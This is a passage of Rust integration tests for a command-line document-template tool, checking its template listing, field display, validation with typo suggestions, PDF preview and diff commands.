        assert!(said.contains(code), "{file}: {said}");
        let said = ends(&room, 1, &["template", "diff", file, file]).stderr;
        assert!(said.contains(code), "{file}: {said}");
    }
}

/// The program's own templates are there without a workspace.
#[test]
fn templates_are_there_without_a_workspace() {
    let room = Room::new();
    let list = room.json(&["template", "list"]);
    assert!(list["templates"].as_array().unwrap().iter().all(|t| t["in_force"] == true));
    let shown = room.json(&["template", "show", "demand-letter", "--fields"]);
    let field =
        |path: &str| shown["fields"].as_array().unwrap().iter().find(|f| f["field"] == path).unwrap().clone();
    assert_eq!((&field("decided")["optional"], &field("title")["optional"]), (&true.into(), &false.into()));
    ends(&room, 0, &["template", "check", "demand-letter"]);
    ends(&room, 0, &["template", "preview", "demand-letter", "-o", "seen"]);
    assert!(room.path().join("seen/demand-letter.pdf").is_file());
    room.write("letter.docx", word_of(&["{{ titel }}"]).write().unwrap());
    let told =
        ends(&room, 1, &["template", "check", "letter.docx", "--as", "demand-letter", "--annotate"]).stdout;
    assert!(told.contains("did you mean title?") && told.contains("letter.checked.docx"), "{told}");
    ends(&room, 1, &["template", "check"]);
}
